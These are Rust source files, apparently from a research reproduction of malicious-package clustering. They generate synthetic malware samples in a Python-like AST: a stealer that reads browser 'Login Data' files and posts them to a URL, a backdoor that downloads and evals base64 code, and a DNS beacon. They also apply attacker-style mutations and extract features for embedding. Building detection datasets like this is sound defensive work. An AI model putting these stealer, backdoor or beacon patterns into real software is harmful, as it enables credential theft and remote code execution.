                            "glob",
                            "glob",
                            vec![Expr::str("~/.config/*/Login Data")],
                        ),
                    ),
                    Stmt::For {
                        var: "p".into(),
                        iter: Expr::name("paths"),
                        body: vec![
                            assign("loot", Expr::mcall("os", "read_file", vec![Expr::name("p")])),
                            Stmt::Expr(Expr::mcall(
                                "requests",
                                "post",
                                vec![Expr::str(url.clone()), Expr::name("loot")],
                            )),
                        ],
                    },
                ],
            ),
        ),
        Behavior::Backdoor => (
            vec![import("base64"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("cmd", Expr::mcall("requests", "get", vec![Expr::str(url)])),
                    assign(
                        "decoded",
                        Expr::mcall(
                            "base64",
                            "b64decode",
                            vec![Expr::attr(Expr::name("cmd"), "content")],
                        ),
                    ),
                    Stmt::Expr(Expr::call(Expr::name("eval"), vec![Expr::name("decoded")])),
                ],
            ),
        ),
        Behavior::DnsBeacon => (
            vec![import("socket"), import("os")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("host", Expr::mcall("socket", "gethostname", vec![])),
                    assign("user", Expr::mcall("os", "getenv", vec![Expr::str("USER")])),
                    assign(
                        "probe",
                        Expr::Binary {
                            op: BinOp::Add,
                            lhs: Box::new(Expr::Binary {
                                op: BinOp::Add,
                                lhs: Box::new(Expr::name("host")),
                                rhs: Box::new(Expr::str(".")),
                            }),
                            rhs: Box::new(Expr::str(host.clone())),
                        },
                    ),
                    Stmt::Expr(Expr::mcall(
                        "socket",
                        "gethostbyname",
                        vec![Expr::name("probe")],
                    )),
                    Stmt::Return(Some(Expr::name("user"))),
                ],
            ),
        ),
    }
}

fn benign_function(rng: &mut impl Rng) -> Stmt {
    let name = rand_ident(rng, "util_");
    match rng.gen_range(0..3) {
        0 => fn_def(
            &name,
            vec!["items".into()],
            vec![
                assign("total", Expr::Int(0)),
                Stmt::For {
                    var: "i".into(),
                    iter: Expr::name("items"),
                    body: vec![assign(
                        "total",
                        Expr::Binary {
                            op: BinOp::Add,
                            lhs: Box::new(Expr::name("total")),
                            rhs: Box::new(Expr::name("i")),
                        },
                    )],
                },
                Stmt::Return(Some(Expr::name("total"))),
            ],
        ),
        1 => fn_def(
            &name,
            vec!["text".into()],
            vec![
                assign(
                    "clean",
                    Expr::call(Expr::attr(Expr::name("text"), "strip"), vec![]),
                ),
                Stmt::Return(Some(Expr::call(
                    Expr::attr(Expr::name("clean"), "lower"),
                    vec![],
                ))),
            ],
        ),
        _ => fn_def(
            &name,
            vec!["n".into()],
            vec![Stmt::If {
                cond: Expr::Binary {
                    op: BinOp::Lt,
                    lhs: Box::new(Expr::name("n")),
                    rhs: Box::new(Expr::Int(2)),
                },
                body: vec![Stmt::Return(Some(Expr::Int(1)))],
                orelse: vec![Stmt::Return(Some(Expr::Binary {
                    op: BinOp::Mul,
                    lhs: Box::new(Expr::name("n")),
                    rhs: Box::new(Expr::call(
                        Expr::name(&name),
                        vec![Expr::Binary {
                            op: BinOp::Sub,
                            lhs: Box::new(Expr::name("n")),
                            rhs: Box::new(Expr::Int(1)),
                        }],
                    )),
                }))],
            }],
        ),
    }
}

/// A function with *random structure*: a unique statement/expression
/// shape per call, giving each code lineage a distinctive structural
/// fingerprint (random literals alone are invisible to the canonicalized
/// embedding, which buckets them).
fn junk_function(rng: &mut impl Rng) -> Stmt {
    fn rand_expr(rng: &mut impl Rng, vars: &[String], depth: usize) -> Expr {
        if depth == 0 || rng.gen_bool(0.4) {
            return if vars.is_empty() || rng.gen_bool(0.3) {
                Expr::Int(rng.gen_range(0..100))
            } else {
                Expr::name(vars.choose(rng).expect("non-empty").clone())
            };
        }
        let ops = [BinOp::Add, BinOp::Sub, BinOp::Mul, BinOp::Mod];
        Expr::Binary {
            op: *ops.choose(rng).expect("non-empty"),
            lhs: Box::new(rand_expr(rng, vars, depth - 1)),
            rhs: Box::new(rand_expr(rng, vars, depth - 1)),
        }
    }
    let name = rand_ident(rng, "calc_");
    let helper = rand_ident(rng, "hlib_");
    let mut vars: Vec<String> = vec!["seed".into()];
    let mut body: Vec<Stmt> = Vec::new();
    let n_stmts = rng.gen_range(4..=9);
    for i in 0..n_stmts {
        let var = format!("t{i}");
        let depth = rng.gen_range(1..=3);
        let mut value = rand_expr(rng, &vars, depth);
        // Most statements call a lineage-unique helper API — undefined
        // global names and attribute names survive canonicalization, so
        // these are the strongest distinguishing signal between code
        // bases (mirroring how real campaigns each carry their own
        // internal helper modules and methods).
        if rng.gen_bool(0.85) {
            value = Expr::call(
                Expr::attr(Expr::name(&helper), rand_ident(rng, "op_")),
                vec![value],
            );
        }
        match rng.gen_range(0..4) {
            0 => body.push(Stmt::If {
                cond: Expr::Binary {
                    op: BinOp::Gt,
                    lhs: Box::new(rand_expr(rng, &vars, 1)),
                    rhs: Box::new(Expr::Int(rng.gen_range(0..50))),
                },
                body: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value: value.clone(),
                }],
                orelse: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value: Expr::Int(rng.gen_range(0..10)),
                }],
            }),
            1 => body.push(Stmt::For {
                var: "k".into(),
                iter: Expr::name("seed"),
                body: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value,
                }],
            }),
            _ => body.push(Stmt::Assign {
                target: Expr::name(var.clone()),
                value,
            }),
        }
        vars.push(var);
    }
    body.push(Stmt::Return(Some(rand_expr(rng, &vars, 2))));
    fn_def(&name, vec!["seed".into()], body)
}

fn import(module: &str) -> Stmt {
    Stmt::Import {
        module: module.into(),
        alias: None,
    }
}

fn assign(name: &str, value: Expr) -> Stmt {
    Stmt::Assign {
        target: Expr::name(name),
        value,
    }
}

fn fn_def(name: &str, params: Vec<String>, body: Vec<Stmt>) -> Stmt {
    Stmt::FunctionDef {
        name: name.into(),
        params,
        body,
    }
}

/// A small source mutation an attacker applies between release attempts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mutation {
    /// Swap the hard-coded endpoint / wallet / path string.
    SwapStringLiteral,
    /// Rename one locally defined identifier.
    RenameIdentifier,
    /// Append one benign filler function.
    InsertBenignFunction,
    /// Perturb one integer constant (port, size, …).
    TweakIntConstant,
}

impl Mutation {
    /// All mutation operators.
    pub const ALL: [Mutation; 4] = [
        Mutation::SwapStringLiteral,
        Mutation::RenameIdentifier,
        Mutation::InsertBenignFunction,
        Mutation::TweakIntConstant,
    ];
}

/// Applies `mutation` to a copy of `module`. The result parses/prints
/// cleanly and differs by a handful of lines — matching the paper's
/// observation of ≈3.7 changed lines per CC operation.
pub fn mutate(module: &Module, mutation: Mutation, rng: &mut impl Rng) -> Module {
    let mut out = module.clone();
    match mutation {
        Mutation::SwapStringLiteral => {
            let fresh = format!("http://{}/u/{}", rand_host(rng), rng.gen_range(100..999));
            let mut done = false;
            for stmt in &mut out.body {
                if !done {
                    done = swap_first_str(stmt, &fresh);
                }
            }
        }
        Mutation::RenameIdentifier => {
            if let Some(old) = first_defined_name(&out) {
                let fresh = rand_ident(rng, "q_");
                rename_everywhere(&mut out, &old, &fresh);
            }
        }
        Mutation::InsertBenignFunction => {
            let f = benign_function(rng);
            let pos = out
                .body
                .iter()
                .position(|s| !matches!(s, Stmt::Import { .. } | Stmt::FromImport { .. }))
                .unwrap_or(out.body.len());
            out.body.insert(pos, f);
        }
        Mutation::TweakIntConstant => {
            let delta = rng.gen_range(1..7);
            let mut done = false;
            for stmt in &mut out.body {
                if !done {
                    done = tweak_first_int(stmt, delta);
                }
            }
        }
    }
    out
}

fn swap_first_str(stmt: &mut Stmt, fresh: &str) -> bool {
    visit_exprs_mut(stmt, &mut |e| {
        if let Expr::Str(s) = e {
            if s.starts_with("http://") || s.starts_with("stratum://") {
                *s = fresh.to_owned();
                return true;
            }
        }
        false
    })
}

fn tweak_first_int(stmt: &mut Stmt, delta: i64) -> bool {
    visit_exprs_mut(stmt, &mut |e| {
        if let Expr::Int(v) = e {
            if *v > 1 {
                *v += delta;
                return true;
            }
        }
        false
    })
}

/// Applies `f` to expressions in pre-order until it returns `true`.
fn visit_exprs_mut(stmt: &mut Stmt, f: &mut impl FnMut(&mut Expr) -> bool) -> bool {
    fn expr(e: &mut Expr, f: &mut impl FnMut(&mut Expr) -> bool) -> bool {
        if f(e) {
            return true;
        }
        match e {
            Expr::Call { callee, args } => {
                expr(callee, f) || args.iter_mut().any(|a| expr(a, f))
            }
            Expr::Attribute { value, .. } => expr(value, f),
            Expr::Index { value, index } => expr(value, f) || expr(index, f),
            Expr::Binary { lhs, rhs, .. } => expr(lhs, f) || expr(rhs, f),
            Expr::Unary { operand, .. } => expr(operand, f),
            Expr::List(items) => items.iter_mut().any(|i| expr(i, f)),
            Expr::Dict(pairs) => pairs
                .iter_mut()
                .any(|(k, v)| expr(k, f) || expr(v, f)),
            _ => false,
        }
    }
    match stmt {
        Stmt::Assign { target, value } => expr(target, f) || expr(value, f),
        Stmt::Expr(e) | Stmt::Raise(e) => expr(e, f),
        Stmt::Return(Some(e)) => expr(e, f),
        Stmt::FunctionDef { body, .. } => body.iter_mut().any(|s| visit_exprs_mut(s, f)),
        Stmt::If { cond, body, orelse } => {
            expr(cond, f)
                || body.iter_mut().any(|s| visit_exprs_mut(s, f))
                || orelse.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::For { iter, body, .. } => {
            expr(iter, f) || body.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::While { cond, body } => {
            expr(cond, f) || body.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::Try { body, handler } => {
            body.iter_mut().any(|s| visit_exprs_mut(s, f))
                || handler.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        _ => false,
    }
}

fn first_defined_name(module: &Module) -> Option<String> {
    for stmt in &module.body {
        match stmt {
            Stmt::Assign {
                target: Expr::Name(n),
                ..
            } => return Some(n.clone()),
            Stmt::FunctionDef { body, .. } => {
                for inner in body {
                    if let Stmt::Assign {
                        target: Expr::Name(n),
                        ..
                    } = inner
                    {
                        return Some(n.clone());
                    }
                }
            }
            _ => {}
        }
    }
    None
}

fn rename_everywhere(module: &mut Module, old: &str, fresh: &str) {
    fn in_expr(e: &mut Expr, old: &str, fresh: &str) {
        match e {
            Expr::Name(n)
                if n == old => {
                    *n = fresh.to_owned();
                }
            Expr::Call { callee, args } => {
                in_expr(callee, old, fresh);
                for a in args {
                    in_expr(a, old, fresh);
                }
            }
            Expr::Attribute { value, .. } => in_expr(value, old, fresh),
            Expr::Index { value, index } => {
                in_expr(value, old, fresh);
                in_expr(index, old, fresh);
            }
            Expr::Binary { lhs, rhs, .. } => {
                in_expr(lhs, old, fresh);
                in_expr(rhs, old, fresh);
            }
            Expr::Unary { operand, .. } => in_expr(operand, old, fresh),
            Expr::List(items) => {
                for i in items {
                    in_expr(i, old, fresh);
                }
            }
            Expr::Dict(pairs) => {
                for (k, v) in pairs {
                    in_expr(k, old, fresh);
                    in_expr(v, old, fresh);
                }
            }
            _ => {}
        }
    }
    fn in_stmt(s: &mut Stmt, old: &str, fresh: &str) {
        match s {
            Stmt::Assign { target, value } => {
                in_expr(target, old, fresh);
                in_expr(value, old, fresh);
            }
            Stmt::Expr(e) | Stmt::Raise(e) => in_expr(e, old, fresh),
            Stmt::Return(Some(e)) => in_expr(e, old, fresh),
            Stmt::FunctionDef { body, .. } => {
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::If { cond, body, orelse } => {
                in_expr(cond, old, fresh);
                for s in body.iter_mut().chain(orelse) {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::For { var, iter, body } => {
                if var == old {
                    *var = fresh.to_owned();
                }
                in_expr(iter, old, fresh);
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::While { cond, body } => {
                in_expr(cond, old, fresh);
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::Try { body, handler } => {
                for s in body.iter_mut().chain(handler) {
                    in_stmt(s, old, fresh);
                }
            }
            _ => {}
        }
    }
    for stmt in &mut module.body {
        in_stmt(stmt, old, fresh);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::line_diff;
    use crate::parse;
    use crate::printer::print_module;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn rng(seed: u64) -> StdRng {
        StdRng::seed_from_u64(seed)
    }

    #[test]
    fn generated_code_parses() {
        let mut r = rng(1);
        for behavior in Behavior::ALL {
            for _ in 0..5 {
                let m = generate(behavior, &mut r);
                let src = print_module(&m);
                parse(&src).unwrap_or_else(|e| panic!("{behavior}: {e}\n{src}"));
            }
        }
    }

    #[test]
    fn generation_is_deterministic_per_seed() {
        let a = generate(Behavior::ExfilAws, &mut rng(7));
        let b = generate(Behavior::ExfilAws, &mut rng(7));
        assert_eq!(print_module(&a), print_module(&b));
    }

    #[test]
    fn different_behaviors_differ() {
        let mut r = rng(3);
        let a = generate(Behavior::ExfilEnv, &mut r);
        let b = generate(Behavior::CryptoMiner, &mut r);
        assert_ne!(print_module(&a), print_module(&b));
    }

    #[test]
    fn payload_contains_install_hook() {
        let m = generate(Behavior::Backdoor, &mut rng(9));
        assert!(
            matches!(m.body.last(), Some(Stmt::Try { .. })),
            "last statement must be the silent install-time hook"
        );
    }

    #[test]
    fn benign_code_parses_and_has_no_network_imports() {
        let mut r = rng(11);
        for _ in 0..10 {
            let m = generate_benign(&mut r);
            let src = print_module(&m);
            parse(&src).unwrap();
            assert!(!src.contains("requests"), "benign code must stay offline");
            assert!(!src.contains("socket"));
        }
    }

    #[test]
    fn mutations_produce_small_parseable_diffs() {
        let mut r = rng(21);
        let base = generate(Behavior::DownloadExecute, &mut r);
        for mutation in Mutation::ALL {
            let mutated = mutate(&base, mutation, &mut r);
            let src = print_module(&mutated);
            parse(&src).unwrap_or_else(|e| panic!("{mutation:?}: {e}\n{src}"));
            let stats = line_diff(&base, &mutated);
            assert!(
                stats.changed_lines() >= 1,
                "{mutation:?} must change something"
            );
            assert!(
                stats.changed_lines() <= 8,
                "{mutation:?} changed {} lines, expected a small diff",
                stats.changed_lines()
            );
        }
    }

    #[test]
    fn swap_string_changes_exactly_the_endpoint() {
        let mut r = rng(33);
        let base = generate(Behavior::ExfilEnv, &mut r);
        let mutated = mutate(&base, Mutation::SwapStringLiteral, &mut r);
        let stats = line_diff(&base, &mutated);
        assert_eq!(stats.changed_lines(), 1);
    }

    #[test]
    fn rename_keeps_behavior_under_canonicalization() {
        use crate::canon::canonicalize;
        let mut r = rng(55);
        let base = generate(Behavior::ExfilAws, &mut r);
        let renamed = mutate(&base, Mutation::RenameIdentifier, &mut r);
        assert_eq!(
            print_module(&canonicalize(&base)),
            print_module(&canonicalize(&renamed)),
            "identifier renaming must be invisible after canonicalization"
        );
    }

    #[test]
    fn insert_benign_grows_module() {
        let mut r = rng(77);
        let base = generate(Behavior::DnsBeacon, &mut r);
        let grown = mutate(&base, Mutation::InsertBenignFunction, &mut r);
        assert_eq!(grown.body.len(), base.body.len() + 1);
    }
}
