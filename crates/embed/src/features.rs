//! Feature extraction from PyLite modules.
//!
//! Three feature families, in decreasing weight:
//!
//! 1. **imports** (weight 3.0) — the set of imported module paths. Which
//!    APIs a program touches (`requests` + `os` vs `clipboard` + `re`) is
//!    the strongest behavioural fingerprint.
//! 2. **AST kind paths** (weight 2.0) — root-to-node sequences of node
//!    kinds (`FunctionDef/While/Assign`), capturing control-flow shape
//!    independent of identifiers and literals.
//! 3. **token n-grams** (weight 1.0) — uni/bi/tri-grams over the
//!    canonical token stream with literals bucketed (`STR`, `INT`), the
//!    classic lexical similarity signal.

use minilang::ast::{Expr, Module, Stmt};
use minilang::canon::canonicalize;

/// One extracted feature: an opaque text key plus a weight.
#[derive(Debug, Clone, PartialEq)]
pub struct Feature {
    /// Hash key; the embedding never interprets this text.
    pub text: String,
    /// Contribution weight.
    pub weight: f32,
}

impl Feature {
    fn new(text: String, weight: f32) -> Self {
        Feature { text, weight }
    }
}

const W_IMPORT: f32 = 3.0;
const W_PATH: f32 = 1.5;
const W_ATTR: f32 = 5.0;
const W_NGRAM: f32 = 1.0;

/// Extracts the full feature bag for `module`.
///
/// The module is canonicalized first, so features are invariant under
/// identifier renaming.
pub fn extract_features(module: &Module) -> Vec<Feature> {
    let canon = canonicalize(module);
    let mut features = Vec::new();
    collect_imports(&canon, &mut features);
    collect_kind_paths(&canon, &mut features);
    collect_token_ngrams(&canon, &mut features);
    features
}

fn collect_imports(module: &Module, out: &mut Vec<Feature>) {
    fn walk(stmts: &[Stmt], out: &mut Vec<Feature>) {
        for stmt in stmts {
            match stmt {
                Stmt::Import { module, .. } => {
                    out.push(Feature::new(format!("imp:{module}"), W_IMPORT));
                }
                Stmt::FromImport { module, name, .. } => {
                    out.push(Feature::new(format!("imp:{module}.{name}"), W_IMPORT));
                }
                Stmt::FunctionDef { body, .. } => walk(body, out),
                Stmt::If { body, orelse, .. } => {
                    walk(body, out);
                    walk(orelse, out);
                }
                Stmt::For { body, .. } | Stmt::While { body, .. } => walk(body, out),
                Stmt::Try { body, handler } => {
                    walk(body, out);
                    walk(handler, out);
                }
                _ => {}
            }
        }
    }
    walk(&module.body, out);
}

fn collect_kind_paths(module: &Module, out: &mut Vec<Feature>) {
    fn stmt_paths(stmt: &Stmt, prefix: &str, out: &mut Vec<Feature>) {
        let path = format!("{prefix}/{}", stmt.kind());
        out.push(Feature::new(format!("path:{path}"), W_PATH));
        let children: Vec<&Vec<Stmt>> = match stmt {
            Stmt::FunctionDef { body, .. }
            | Stmt::For { body, .. }
            | Stmt::While { body, .. } => vec![body],
            Stmt::If { body, orelse, .. } => vec![body, orelse],
            Stmt::Try { body, handler } => vec![body, handler],
            _ => vec![],
        };
        for block in children {
            for child in block {
                stmt_paths(child, &path, out);
            }
        }
        // Expression kind paths, one level deep (callee kinds matter:
        // Call/Attribute distinguishes `requests.post(..)` from `f(..)`).
        for e in stmt_exprs(stmt) {
            expr_paths(e, &path, 0, out);
        }
    }
    fn expr_paths(expr: &Expr, prefix: &str, depth: usize, out: &mut Vec<Feature>) {
        if depth > 3 {
            return;
        }
        let path = format!("{prefix}/{}", expr.kind());
        out.push(Feature::new(format!("path:{path}"), W_PATH));
        match expr {
            Expr::Call { callee, args } => {
                expr_paths(callee, &path, depth + 1, out);
                for a in args {
                    expr_paths(a, &path, depth + 1, out);
                }
            }
            Expr::Attribute { value, attr } => {
                out.push(Feature::new(format!("attr:{attr}"), W_ATTR));
                expr_paths(value, &path, depth + 1, out);
            }
            Expr::Index { value, index } => {
                expr_paths(value, &path, depth + 1, out);
                expr_paths(index, &path, depth + 1, out);
            }
            Expr::Binary { lhs, rhs, .. } => {
                expr_paths(lhs, &path, depth + 1, out);
                expr_paths(rhs, &path, depth + 1, out);
            }
            Expr::Unary { operand, .. } => expr_paths(operand, &path, depth + 1, out),
            Expr::List(items) => {
                for i in items {
                    expr_paths(i, &path, depth + 1, out);
                }
            }
            Expr::Dict(pairs) => {
                for (k, v) in pairs {
                    expr_paths(k, &path, depth + 1, out);
                    expr_paths(v, &path, depth + 1, out);
                }
            }
            _ => {}
        }
    }
    fn stmt_exprs(stmt: &Stmt) -> Vec<&Expr> {
        match stmt {
            Stmt::Assign { target, value } => vec![target, value],
            Stmt::Expr(e) | Stmt::Raise(e) => vec![e],
            Stmt::Return(Some(e)) => vec![e],
            Stmt::If { cond, .. } | Stmt::While { cond, .. } => vec![cond],
            Stmt::For { iter, .. } => vec![iter],
            _ => vec![],
        }
    }
    for stmt in &module.body {
        stmt_paths(stmt, "", out);
    }
}

fn collect_token_ngrams(module: &Module, out: &mut Vec<Feature>) {
    let tokens = token_stream(module);
    for window in tokens.windows(1) {
        out.push(Feature::new(format!("t1:{}", window.join(" ")), W_NGRAM));
    }
    for window in tokens.windows(2) {
        out.push(Feature::new(format!("t2:{}", window.join(" ")), W_NGRAM));
    }
    for window in tokens.windows(3) {
        out.push(Feature::new(format!("t3:{}", window.join(" ")), W_NGRAM));
    }
}

/// Flattens a module to an abstract token stream with literals bucketed.
pub fn token_stream(module: &Module) -> Vec<String> {
    let mut tokens = Vec::new();
    for stmt in &module.body {
        stmt_tokens(stmt, &mut tokens);
    }
    tokens
}

fn stmt_tokens(stmt: &Stmt, out: &mut Vec<String>) {
    match stmt {
        Stmt::Import { module, .. } => {
            out.push("import".into());
            out.push(module.clone());
        }
        Stmt::FromImport { module, name, .. } => {
            out.push("from".into());
            out.push(module.clone());
            out.push("import".into());
            out.push(name.clone());
        }
        Stmt::Assign { target, value } => {
            expr_tokens(target, out);
            out.push("=".into());
            expr_tokens(value, out);
        }
        Stmt::Expr(e) => expr_tokens(e, out),
        Stmt::FunctionDef { name, params, body } => {
            out.push("def".into());
            out.push(name.clone());
            out.extend(params.iter().cloned());
            for s in body {
                stmt_tokens(s, out);
            }
            out.push("enddef".into());
        }
        Stmt::If { cond, body, orelse } => {
            out.push("if".into());
            expr_tokens(cond, out);
            for s in body {
                stmt_tokens(s, out);
            }
            if !orelse.is_empty() {
                out.push("else".into());
                for s in orelse {
                    stmt_tokens(s, out);
                }
            }
            out.push("endif".into());
        }
        Stmt::For { var, iter, body } => {
            out.push("for".into());
            out.push(var.clone());
            expr_tokens(iter, out);
            for s in body {
                stmt_tokens(s, out);
            }
            out.push("endfor".into());
        }
        Stmt::While { cond, body } => {
            out.push("while".into());
            expr_tokens(cond, out);
            for s in body {
                stmt_tokens(s, out);
            }
            out.push("endwhile".into());
        }
        Stmt::Try { body, handler } => {
            out.push("try".into());
            for s in body {
                stmt_tokens(s, out);
            }
            out.push("except".into());
            for s in handler {
                stmt_tokens(s, out);
            }
            out.push("endtry".into());
        }
        Stmt::Return(v) => {
            out.push("return".into());
            if let Some(e) = v {
                expr_tokens(e, out);
            }
        }
        Stmt::Raise(e) => {
            out.push("raise".into());
            expr_tokens(e, out);
        }
        Stmt::Pass => out.push("pass".into()),
    }
}

fn expr_tokens(expr: &Expr, out: &mut Vec<String>) {
    match expr {
        Expr::Name(n) => out.push(n.clone()),
        // Literals are bucketed: the exact endpoint URL or port changes
        // between release attempts, the shape does not.
        Expr::Str(_) => out.push("STR".into()),
        Expr::Int(_) => out.push("INT".into()),
        Expr::Float(_) => out.push("FLOAT".into()),
        Expr::Bool(_) => out.push("BOOL".into()),
        Expr::NoneLit => out.push("NONE".into()),
        Expr::Call { callee, args } => {
            expr_tokens(callee, out);
            out.push("(".into());
            for a in args {
                expr_tokens(a, out);
            }
            out.push(")".into());
        }
        Expr::Attribute { value, attr } => {
            expr_tokens(value, out);
            out.push(format!(".{attr}"));
        }
        Expr::Index { value, index } => {
            expr_tokens(value, out);
            out.push("[".into());
            expr_tokens(index, out);
            out.push("]".into());
        }
        Expr::Binary { op, lhs, rhs } => {
            expr_tokens(lhs, out);
            out.push(op.symbol().into());
            expr_tokens(rhs, out);
        }
        Expr::Unary { operand, .. } => {
            out.push("unary".into());
            expr_tokens(operand, out);
        }
        Expr::List(items) => {
            out.push("list".into());
            for i in items {
                expr_tokens(i, out);
            }
        }
        Expr::Dict(pairs) => {
            out.push("dict".into());
            for (k, v) in pairs {
                expr_tokens(k, out);
                expr_tokens(v, out);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::parse;

    #[test]
    fn imports_are_extracted_with_high_weight() {
        let m = parse("import requests\nfrom os import getenv\n").unwrap();
        let feats = extract_features(&m);
        let imports: Vec<_> = feats.iter().filter(|f| f.text.starts_with("imp:")).collect();
        assert_eq!(imports.len(), 2);
        assert!(imports.iter().all(|f| f.weight == W_IMPORT));
        assert!(imports.iter().any(|f| f.text == "imp:requests"));
        assert!(imports.iter().any(|f| f.text == "imp:os.getenv"));
    }

    #[test]
    fn literals_are_bucketed() {
        let a = parse("x = send('http://a.xyz', 42)\n").unwrap();
        let b = parse("x = send('http://b.top', 99)\n").unwrap();
        assert_eq!(token_stream(&a), token_stream(&b));
    }

    #[test]
    fn kind_paths_capture_nesting() {
        let m = parse("def f():\n    while x:\n        y = 1\n").unwrap();
        let feats = extract_features(&m);
        assert!(
            feats
                .iter()
                .any(|f| f.text == "path:/FunctionDef/While/Assign"),
            "missing nested path feature"
        );
    }

    #[test]
    fn attribute_names_become_features() {
        let m = parse("requests.post(u)\n").unwrap();
        let feats = extract_features(&m);
        assert!(feats.iter().any(|f| f.text == "attr:post"));
    }

    #[test]
    fn empty_module_has_no_features() {
        let m = parse("").unwrap();
        assert!(extract_features(&m).is_empty());
    }

    #[test]
    fn ngram_counts_grow_with_program() {
        let small = extract_features(&parse("x = 1\n").unwrap());
        let large =
            extract_features(&parse("x = 1\ny = 2\nz = x + y\nw = z * 2\n").unwrap());
        assert!(large.len() > small.len());
    }

    #[test]
    fn token_stream_marks_block_boundaries() {
        let m = parse("if a:\n    pass\nelse:\n    pass\n").unwrap();
        let toks = token_stream(&m);
        assert!(toks.contains(&"else".to_string()));
        assert!(toks.contains(&"endif".to_string()));
    }
}
