//! Deterministic code embeddings over PyLite ASTs.
//!
//! The paper's similarity pipeline (§III-A) converts each package's source
//! code into an AST, embeds the AST with OpenAI's `text-embedding-3-large`
//! (3072 dimensions), and clusters the vectors with K-Means. An external
//! embedding API is a data/hardware gate for a reproduction, so this crate
//! substitutes a *feature-hashing* embedder with the one property the
//! pipeline needs: **similar code maps to nearby vectors**, robust to the
//! identifier renames and small edits attackers apply between release
//! attempts.
//!
//! Features are extracted from the *canonicalized* AST (see
//! [`minilang::canon`]): token n-grams of the canonical text, root-to-node
//! AST *kind paths*, and the imported module set (weighted highest — which
//! APIs the code touches is the strongest behavioural signal). Each
//! feature is hashed into one of `dim` buckets with a signed hash (the
//! classic hashing trick), and the vector is L2-normalized so cosine
//! similarity is a dot product.
//!
//! # Examples
//!
//! ```
//! use embed::Embedder;
//! use minilang::parse;
//!
//! let embedder = Embedder::new(512);
//! let a = embedder.embed(&parse("import os\nk = os.getenv('A')\n")?);
//! let b = embedder.embed(&parse("import os\nv = os.getenv('A')\n")?);
//! assert!(a.cosine(&b) > 0.95, "renamed variable stays similar");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod features;
pub mod sparse;
pub mod vector;

pub use features::extract_features;
pub use sparse::SparseEmbedding;
pub use vector::Embedding;

use minilang::Module;

/// The embedding dimensionality the paper reports for
/// `text-embedding-3-large`.
pub const PAPER_DIM: usize = 3072;

/// A deterministic feature-hashing embedder.
#[derive(Debug, Clone)]
pub struct Embedder {
    dim: usize,
}

impl Embedder {
    /// Creates an embedder producing `dim`-dimensional vectors.
    ///
    /// # Panics
    ///
    /// Panics if `dim == 0`.
    pub fn new(dim: usize) -> Self {
        assert!(dim > 0, "embedding dimension must be positive");
        Embedder { dim }
    }

    /// An embedder with the paper's 3072 dimensions.
    pub fn paper() -> Self {
        Embedder::new(PAPER_DIM)
    }

    /// Output dimensionality.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Embeds a module.
    ///
    /// The module is canonicalized first, so alpha-renamed programs embed
    /// identically. Allocates a scratch buffer per call; batch callers
    /// should reuse one [`EmbedBuffer`] via [`Embedder::embed_into`] or
    /// [`Embedder::embed_sparse_into`] instead.
    pub fn embed(&self, module: &Module) -> Embedding {
        let mut buf = EmbedBuffer::new();
        let mut values = Vec::new();
        self.embed_into(module, &mut buf, &mut values);
        Embedding::from_raw(values)
    }

    /// Embeds a module into `out`, reusing `buf`'s accumulation scratch
    /// and `out`'s allocation across calls (the batch-embedding path of
    /// the similarity pipeline). `out` holds the L2-normalized dense
    /// values afterwards, bitwise identical to [`Embedder::embed`].
    pub fn embed_into(&self, module: &Module, buf: &mut EmbedBuffer, out: &mut Vec<f32>) {
        let norm = self.accumulate(module, buf);
        out.clear();
        out.resize(self.dim, 0.0);
        for &bucket in &buf.touched {
            let v = buf.scratch[bucket as usize];
            out[bucket as usize] = if norm == 0.0 { v } else { v / norm };
        }
        buf.reset_touched();
    }

    /// Embeds a module as a [`SparseEmbedding`]: only the touched
    /// buckets are stored, so a batch of embeddings costs O(features)
    /// memory per module instead of O(dim). Densifying the result is
    /// bitwise identical to [`Embedder::embed`].
    pub fn embed_sparse(&self, module: &Module) -> SparseEmbedding {
        let mut buf = EmbedBuffer::new();
        self.embed_sparse_into(module, &mut buf)
    }

    /// [`Embedder::embed_sparse`] with a caller-owned reusable buffer.
    pub fn embed_sparse_into(&self, module: &Module, buf: &mut EmbedBuffer) -> SparseEmbedding {
        let norm = self.accumulate(module, buf);
        let indices = buf.touched.clone();
        let values: Vec<f32> = buf
            .touched
            .iter()
            .map(|&bucket| {
                let v = buf.scratch[bucket as usize];
                if norm == 0.0 {
                    v
                } else {
                    v / norm
                }
            })
            .collect();
        buf.reset_touched();
        // The stored values are the *normalized* components; their norm
        // is ~1 but must be recomputed (bitwise) rather than assumed,
        // exactly like the dense path does after dividing.
        let norm = if norm == 0.0 {
            norm
        } else {
            values_norm(&values)
        };
        SparseEmbedding::from_parts_with_norm(self.dim, indices, values, norm)
    }

    /// Hashes the module's features into `buf.scratch` and returns the
    /// pre-normalization Euclidean norm. `buf.touched` holds the sorted,
    /// deduplicated bucket list afterwards; the caller must call
    /// `buf.reset_touched()` once done with the scratch values.
    fn accumulate(&self, module: &Module, buf: &mut EmbedBuffer) -> f32 {
        let features = extract_features(module);
        obs::counter_add("embed.vectors", 1);
        obs::counter_add("embed.features", features.len() as u64);
        if buf.scratch.len() != self.dim {
            assert!(
                buf.scratch.iter().all(|&v| v == 0.0),
                "EmbedBuffer reused across embedder dimensions mid-accumulation"
            );
            buf.scratch.clear();
            buf.scratch.resize(self.dim, 0.0);
        }
        buf.touched.clear();
        for feature in &features {
            let h = fnv1a(feature.text.as_bytes());
